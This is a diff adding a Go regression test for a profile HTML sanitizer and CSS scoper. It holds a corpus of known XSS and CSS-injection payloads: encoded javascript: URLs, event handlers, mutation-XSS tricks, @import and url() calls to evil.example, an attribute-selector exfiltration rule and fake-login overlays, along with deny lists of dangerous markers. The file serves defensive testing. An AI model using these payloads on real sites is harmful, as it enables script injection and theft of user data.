@@ -0,0 +1,219 @@
+package sanitize
+
+import (
+	"strings"
+	"testing"
+)
+
+// corpusCase is one known attack and what must never survive sanitizing it.
+type corpusCase struct {
+	Name  string
+	Input string
+	// Forbidden substrings (matched case-insensitively) that must not appear in the output.
+	Forbidden []string
+}
+
+// keepCase is legitimate input whose output must still contain Want.
+type keepCase struct {
+	Name  string
+	CSS   bool // Run through CSS() instead of HTML()
+	Input string
+	Want  []string
+}
+
+// corpusAssetBase is the hosted asset prefix the corpus runs with, and
+// corpusAsset a well-formed asset URL under it.
+const corpusAssetBase = "https://media.c500.store/profile-assets/"
+
+var (
+	corpusHash  = strings.Repeat("ab", 32)
+	corpusAsset = corpusAssetBase + "123456789012345678/" + corpusHash
+)
+
+// Markers shared by most cases: if any of these come out, the sanitizer failed.
+var (
+	htmlDanger = []string{"<script", "javascript:", "vbscript:", "onerror", "onload", "onclick",
+		"onmouseover", "onfocus", "<iframe", "<svg", "<object", "<embed", "<style", "<form",
+		"<base", "<meta", "<link", "srcdoc", "data:text", "expression("}
+	cssDanger = []string{"url(", "@import", "expression", "javascript:", "behavior", "-moz-binding",
+		"position: fixed", "position: sticky", "</style", "<", "@font-face", "@charset", "@namespace"}
+)
+
+// htmlCorpus is a collection of well-known XSS payloads (OWASP filter evasion
+// cheat sheet, html5sec.org, past bug bounty reports) run through HTML().
+var htmlCorpus = []corpusCase{
+	{"plain script", `<script>alert(1)</script>`, htmlDanger},
+	{"uppercase script", `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, htmlDanger},
+	{"script split by null", "<scr\x00ipt>alert(1)</scr\x00ipt>", htmlDanger},
+	{"nested script", `<scr<script>ipt>alert(1)</script>`, htmlDanger},
+	{"img onerror", `<img src=x onerror=alert(1)>`, htmlDanger},
+	{"img onerror no quotes slash", `<img/src="x"/onerror=alert(1)>`, htmlDanger},
+	{"javascript href", `<a href="javascript:alert(1)">x</a>`, htmlDanger},
+	{"javascript href entity", `<a href="&#106;avascript:alert(1)">x</a>`, htmlDanger},
+	{"javascript href hex entity", `<a href="&#x6A;avascript&#x3A;alert(1)">x</a>`, htmlDanger},
+	{"javascript href tab", "<a href=\"java\tscript:alert(1)\">x</a>", htmlDanger},
+	{"javascript href newline", "<a href=\"java\nscript:alert(1)\">x</a>", htmlDanger},
+	{"javascript href leading space", `<a href=" javascript:alert(1)">x</a>`, htmlDanger},
+	{"javascript mixed case", `<a href="JaVaScRiPt:alert(1)">x</a>`, htmlDanger},
+	{"vbscript href", `<a href="vbscript:msgbox(1)">x</a>`, htmlDanger},
+	{"data uri href", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, htmlDanger},
+	{"svg onload", `<svg onload=alert(1)>`, htmlDanger},
+	{"svg script", `<svg><script>alert(1)</script></svg>`, htmlDanger},
+	{"math mglyph", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, htmlDanger},
+	{"iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, htmlDanger},
+	{"iframe javascript", `<iframe src="javascript:alert(1)"></iframe>`, htmlDanger},
+	{"object data", `<object data="javascript:alert(1)"></object>`, htmlDanger},
+	{"embed src", `<embed src="javascript:alert(1)">`, htmlDanger},
+	{"body onload", `<body onload=alert(1)>`, htmlDanger},
+	{"div onmouseover", `<div onmouseover="alert(1)">hover</div>`, htmlDanger},
+	{"details ontoggle", `<details open ontoggle=alert(1)>`, append(htmlDanger, "ontoggle")},
+	{"marquee onstart", `<marquee onstart=alert(1)>hi</marquee>`, append(htmlDanger, "onstart")},
+	{"input autofocus", `<input autofocus onfocus=alert(1)>`, htmlDanger},
+	{"form action", `<form action="javascript:alert(1)"><button>go</button></form>`, htmlDanger},
+	{"button formaction", `<button formaction="javascript:alert(1)">x</button>`, append(htmlDanger, "formaction")},
+	{"meta refresh", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, htmlDanger},
+	{"base href", `<base href="javascript:alert(1)//">`, htmlDanger},
+	{"link stylesheet", `<link rel=stylesheet href="//evil.example/x.css">`, htmlDanger},
+	{"style tag", `<style>body{background:url(javascript:alert(1))}</style>`, append(htmlDanger, "url(")},
+	{"style attr expression", `<div style="width: expression(alert(1))">x</div>`, htmlDanger},
+	{"style attr url", `<div style="background:url(javascript:alert(1))">x</div>`, append(htmlDanger, "url(")},
+	{"style attr escaped url", `<div style="background:\75rl(//evil.example)">x</div>`, append(htmlDanger, "\\75rl", "url(")},
+	{"style attr fixed overlay", `<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>`, append(htmlDanger, "fixed")},
+	{"comment breakout", `<!--<img src="--><img src=x onerror=alert(1)//">`, htmlDanger},
+	{"conditional comment", `<!--[if IE]><script>alert(1)</script><![endif]-->`, htmlDanger},
+	{"cdata", `<![CDATA[<script>alert(1)</script>]]>`, htmlDanger},
+	{"attribute breakout", `<a title='"><script>alert(1)</script>'>x</a>`, htmlDanger},
+	{"unclosed attribute", `<a href="https://ok.example title="x" onmouseover="alert(1)">x</a>`, []string{"onmouseover="}},
+	{"textarea breakout", `<textarea></textarea><script>alert(1)</script>`, htmlDanger},
+	{"title breakout", `<title></title><img src=x onerror=alert(1)>`, htmlDanger},
+	{"noscript breakout", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, htmlDanger},
+	{"template content", `<template><script>alert(1)</script></template>`, htmlDanger},
+	{"xmp breakout", `<xmp><img src=x onerror=alert(1)></xmp>`, htmlDanger},
+	{"plaintext", `<plaintext><script>alert(1)`, htmlDanger},
+	{"dom clobbering id", `<img id="checkoutForm" src="https://ok.example/a.png">`, []string{`id="checkoutForm"`}},
+	{"dom clobbering name", `<a name="currentUser" href="#">x</a>`, []string{"name="}},
+	{"img data uri", `<img src="data:image/svg+xml,<svg onload=alert(1)>">`, append(htmlDanger, "data:")},
+	{"protocol relative js", `<a href="//javascript:alert(1)">x</a>`, []string{"<script"}},
+	{"null in attribute name", "<img src=x on\x00error=alert(1)>", htmlDanger},
+	{"img offsite tracker", `<img src="https://evil.example/pixel.gif">`, []string{"evil.example", "src="}},
+	{"img relative get", `<img src="/api/v1/builders/1/profile/rollback">`, []string{"src="}},
+	{"img asset path on other host", `<img src="https://evil.example/profile-assets/1/` + corpusHash + `.png">`, []string{"src="}},
+	{"img asset userinfo", `<img src="https://media.c500.store@evil.example/profile-assets/1/` + corpusHash + `.png">`, []string{"src="}},
+	{"img asset traversal", `<img src="` + corpusAssetBase + `../images/x/original.jpg">`, []string{"src="}},
+	{"deep nesting", strings.Repeat("<div>", 5000) + "x", []string{strings.Repeat("<div>", maxDepth+1)}},
+}
+
+// cssCorpus is a collection of CSS injection and overlay payloads run through CSS().
+var cssCorpus = []corpusCase{
+	{"import", `@import url("//evil.example/x.css"); h1 { color: red }`, cssDanger},
+	{"import no url", `@import "//evil.example/x.css";`, cssDanger},
+	{"import uppercase", `@IMPORT '//evil.example/x.css';`, cssDanger},
+	{"font-face", `@font-face { font-family: x; src: url(//evil.example/f.woff) }`, cssDanger},
+	{"background url", `div { background: url(//evil.example/track.gif) }`, cssDanger},
+	{"background url uppercase", `div { background: URL(//evil.example/track.gif) }`, cssDanger},
+	{"url escaped", `div { background: \75 rl(//evil.example/x) }`, cssDanger},
+	{"url comment split", `div { background: u/**/rl(//evil.example/x) }`, cssDanger},
+	{"image-set", `div { background-image: image-set("//evil.example/x.png" 1x) }`, append(cssDanger, "image-set")},
+	{"expression", `div { width: expression(alert(1)) }`, cssDanger},
+	{"expression comment split", `div { width: expr/**/ession(alert(1)) }`, cssDanger},
+	{"javascript url", `div { background: url("javascript:alert(1)") }`, cssDanger},
+	{"behavior", `div { behavior: url(x.htc) }`, cssDanger},
+	{"moz-binding", `div { -moz-binding: url("//evil.example/xss.xml#x") }`, cssDanger},
+	{"attribute exfiltration", `input[value^="a"] { background: url(//evil.example/?a) }`, cssDanger},
+	{"fixed overlay", `.fake-login { position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 99999 }`, append(cssDanger, "99999")},
+	{"fixed important", `div { position: fixed !important }`, cssDanger},
+	{"sticky", `div { position: sticky; top: 0 }`, cssDanger},
+	{"style breakout", `h1 { color: red } </style><script>alert(1)</script>`, cssDanger},
+	{"style breakout in string", `h1::after { content: "</style><script>alert(1)</script>" }`, cssDanger},
+	{"unbalanced brace escape", `h1 { color: red }} nav { display: none }`, []string{"\nnav", "} nav"}},
+	{"site chrome selector", `body > nav, .site-header { display: none }`, []string{"\nbody", "\n.site-header"}},
+	{"sibling escape", `:root ~ nav { display: none }`, []string{"~ nav"}},
+	{"sibling combinator start", `+ .checkout { display: none }`, []string{"+ .checkout"}},
+	{"namespace", `@namespace svg url(http://www.w3.org/2000/svg);`, cssDanger},
+	{"charset", `@charset "UTF-7"; +ADw-script+AD4-`, cssDanger},
+	{"media url", `@media (min-width: 1px) and url(x) { h1 { color: red } }`, cssDanger},
+	{"keyframes override", `@keyframes spin { from { opacity: 0 } }`, []string{"@keyframes spin"}},
+	{"unterminated comment", `h1 { color: red } /* nav { display: none }`, []string{"nav"}},
+	{"null byte", "h1 { color: red\x00; background: url(x) }", cssDanger},
+	{"asset url other host", `div { background: url(https://evil.example/profile-assets/1/` + corpusHash + `.png) }`, cssDanger},
+	{"asset url suffix", `div { background: url("` + corpusAsset + `.png.evil.example/x") }`, cssDanger},
+	{"asset url query", `div { background: url("` + corpusAsset + `.png?u=1") }`, cssDanger},
+	{"asset next to offsite url", `div { background: url("` + corpusAsset + `.png"), url(//evil.example/x) }`, cssDanger},
+	{"asset url in image-set", `div { background: image-set(url("` + corpusAsset + `.png") 1x) }`, append(cssDanger, "image-set")},
+	{"font-face local", `@font-face { font-family: x; src: local(Arial), url("` + corpusAsset + `.woff2") }`, cssDanger},
+	{"font-face data uri", `@font-face { font-family: x; src: url(data:font/woff2;base64,AAAA) }`, cssDanger},
+	{"font-face site font", `@font-face { font-family: Inter; src: url("` + corpusAsset + `.woff2") } h1 { font-family: Inter }`,
+		[]string{"font-family: inter", `font-family: "inter"`}},
+}
+
+// keepCorpus checks the sanitizer still lets hosted profile assets through.
+var keepCorpus = []keepCase{
+	{"img asset", false, `<img src="` + corpusAsset + `.gif" alt="spinning globe">`, []string{`src="` + corpusAsset + `.gif"`}},
+	{"style attr asset", false, `<div style="background: URL('` + corpusAsset + `.png')">x</div>`, []string{`url(&#34;` + corpusAsset + `.png&#34;)`}},
+	{"background asset", true, `body { background: #000 url(` + corpusAsset + `.jpg) repeat }`, []string{`url("` + corpusAsset + `.jpg")`}},
+	{"font-face asset", true, `@font-face { font-family: "Comic Neue"; src: url("` + corpusAsset + `.woff2") format('woff2'); font-display: swap }
+h1 { font: bold 2em "Comic Neue", cursive }`, []string{
+		`@font-face { font-family: "u-comic neue"; src: url("` + corpusAsset + `.woff2") format("woff2"); font-display: swap; }`,
+		`font: bold 2em "u-comic neue", cursive;`}},
+}
+
+// TestCorpus runs every payload through the profile HTML sanitizer and CSS
+// scoper. When a new bypass is reported, add the payload here first, watch
+// this fail, then fix the sanitizer.
+func TestCorpus(t *testing.T) {
+	saved := assetURL
+	t.Cleanup(func() { assetURL = saved })
+	SetAssetBaseURL(corpusAssetBase)
+
+	for _, tc := range htmlCorpus {
+		t.Run("html/"+tc.Name, func(t *testing.T) {
+			assertNoForbidden(t, tc.Forbidden, HTML(tc.Input))
+		})
+	}
+
+	for _, tc := range cssCorpus {
+		t.Run("css/"+tc.Name, func(t *testing.T) {
+			out := CSS(tc.Input, ProfileScope)
+			assertNoForbidden(t, tc.Forbidden, out)
+			// Every surviving rule must be inside the profile box.
+			for _, line := range strings.Split(out, "\n") {
+				line = strings.TrimSpace(line)
+				if line == "" || line == "}" || strings.HasPrefix(line, "@") || isKeyframeStep(line) {
+					continue
+				}
+				if !strings.HasPrefix(line, ProfileScope) {
+					t.Errorf("unscoped rule %q", line)
+				}
+			}
+		})
+	}
+
+	for _, tc := range keepCorpus {
+		t.Run("keep/"+tc.Name, func(t *testing.T) {
+			out := HTML(tc.Input)
+			if tc.CSS {
+				out = CSS(tc.Input, ProfileScope)
+			}
+			for _, want := range tc.Want {
+				if !strings.Contains(out, want) {
+					t.Errorf("output is missing %q: %s", want, out)
+				}
+			}
+		})
+	}
+}
+
+func assertNoForbidden(t *testing.T, forbidden []string, out string) {
+	t.Helper()
+	lower := strings.ToLower(out)
+	for _, bad := range forbidden {
+		if strings.Contains(lower, strings.ToLower(bad)) {
+			t.Errorf("output contains %q: %s", bad, out)
+		}
+	}
+}
+
+// isKeyframeStep spots "from {", "to {" and "50% {" lines inside @keyframes.
+func isKeyframeStep(line string) bool {
+	return strings.HasPrefix(line, "from ") || strings.HasPrefix(line, "to ") || (line[0] >= '0' && line[0] <= '9')
+}